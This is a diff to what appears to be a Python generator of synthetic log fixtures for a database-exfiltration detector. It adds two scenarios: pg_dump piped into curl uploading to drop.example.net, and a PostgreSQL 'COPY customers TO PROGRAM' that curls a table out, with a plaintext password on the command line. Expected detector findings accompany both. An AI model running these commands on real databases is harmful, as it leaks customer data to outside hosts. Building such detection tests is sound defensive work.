@@ -93,11 +93,14 @@ class Log:
         })
 
     def egress(self, host: str, t: int, pid: int, path: str, address: str, port: int, user: str = "",
-               uid: int | None = None) -> None:
-        self.event("db_egress", host, t, {
+               uid: int | None = None, status: str | None = None) -> None:
+        columns: dict[str, Any] = {
             "auid": uid if user else NO_AUID, "family": 2, "login_user": user, "path": path, "pid": pid,
             "remote_address": address, "remote_port": port, "success": 1, "time": t,
-        })
+        }
+        if status is not None:  # osquery 5.x's socket status (agents before it log only success)
+            columns["status"] = status
+        self.event("db_egress", host, t, columns)
 
     def write(self, name: str, spec: dict[str, Any]) -> None:
         with open(os.path.join(HERE, name + ".log"), "w") as handle:
@@ -358,8 +361,51 @@ def baseline_habitual_novel() -> None:
     })
 
 
+def streamed_dump() -> None:
+    log = Log()
+    t = MON + 1 * D + 15 * H
+    # `pg_dump shop | curl -s -T - URL` typed at a shell: bash forks both, same parent pid, same second.
+    for query, cmd, path, pid in (("db_cli_exec", "pg_dump shop", "/usr/bin/pg_dump", 5201),
+                                  ("transfer_exec", "curl -s -T - https://drop.example.net/s.sql", "/usr/bin/curl", 5202)):
+        log.event(query, "db-6", t, {
+            "auid": 1001, "cmdline": cmd, "cwd": "/home/eve", "euid": 1001, "login_user": "eve", "parent": 5200,
+            "parent_cmdline": "-bash", "parent_path": "/usr/bin/bash", "path": path, "pid": pid, "time": t,
+            "uid": 1001, "username": "eve"})
+    log.egress("db-6", t, 5202, "/usr/bin/curl", "203.0.113.80", 443, "eve", 1001, status="in_progress")
+    log.write("streamed-dump", {
+        "note": "pg_dump to stdout piped into curl to an external address: the full chain with no file, high",
+        "expect": [{"host": "db-6", "user": "eve", "min": 4, "max": 4,
+                    "reasons": ["streamed-dump", "egress-after-dump", "linked-by-pid"]}],
+    })
+
+
+def copy_to_program() -> None:
+    log = Log()
+    t = MON + 1 * D + 16 * H
+    log.db_exec("pg-12", t, "eve", 1001,
+                "psql postgresql://owner:S3cret@db/shop -c COPY customers TO PROGRAM 'curl -s -T - "
+                "https://drop.example.net/c'", "/usr/bin/psql", 5501, "/usr/bin/bash", "-bash")
+    # The server's `sh -c curl ...` has no session: only its connect is logged, with no login user.
+    log.egress("pg-12", t + 1, 5507, "/usr/bin/curl", "203.0.113.90", 443, status="in_progress")
+    # An exited parent (empty parent columns) is unknown, not automation.
+    log.event("db_cli_exec", "pg-12", t + 3 * H, {
+        "auid": 1002, "cmdline": "psql -h db -U app shop", "cwd": "/home/lou", "euid": 1002, "login_user": "lou",
+        "parent": 0, "parent_cmdline": "", "parent_path": "", "path": "/usr/bin/psql", "pid": 5600,
+        "time": t + 3 * H, "uid": 1002, "username": "lou"})
+    log.write("copy-to-program", {
+        "note": "COPY ... TO PROGRAM 'curl ...': the server sends the table out itself (high); a session whose "
+                "parent had exited is parent-unknown, not non-interactive",
+        "expect": [{"host": "pg-12", "user": "eve", "min": 4, "max": 4,
+                    "reasons": ["server-exfil", "egress-after-access", "linked-by-program", "password-on-cmdline"]},
+                   {"host": "pg-12", "user": "lou", "min": 2, "max": 2, "reasons": ["parent-unknown"]}],
+        "forbid": [{"host": "pg-12", "user": "postgres", "max": 0}],
+        "secrets": ["S3cret"],
+    })
+
+
 if __name__ == "__main__":
     for make in (webshell_egress_critical, allow_rule_metachar, automation_window_tz, service_outside_window,
                  into_outfile_mysql_owner, pid_linked_egress, internal_egress, numerics_on, snapshot_forms,
-                 fleet_team_names, history_access, server_parents, web_account_no_session, baseline_habitual_novel):
+                 fleet_team_names, history_access, server_parents, web_account_no_session, baseline_habitual_novel,
+                 streamed_dump, copy_to_program):
         make()
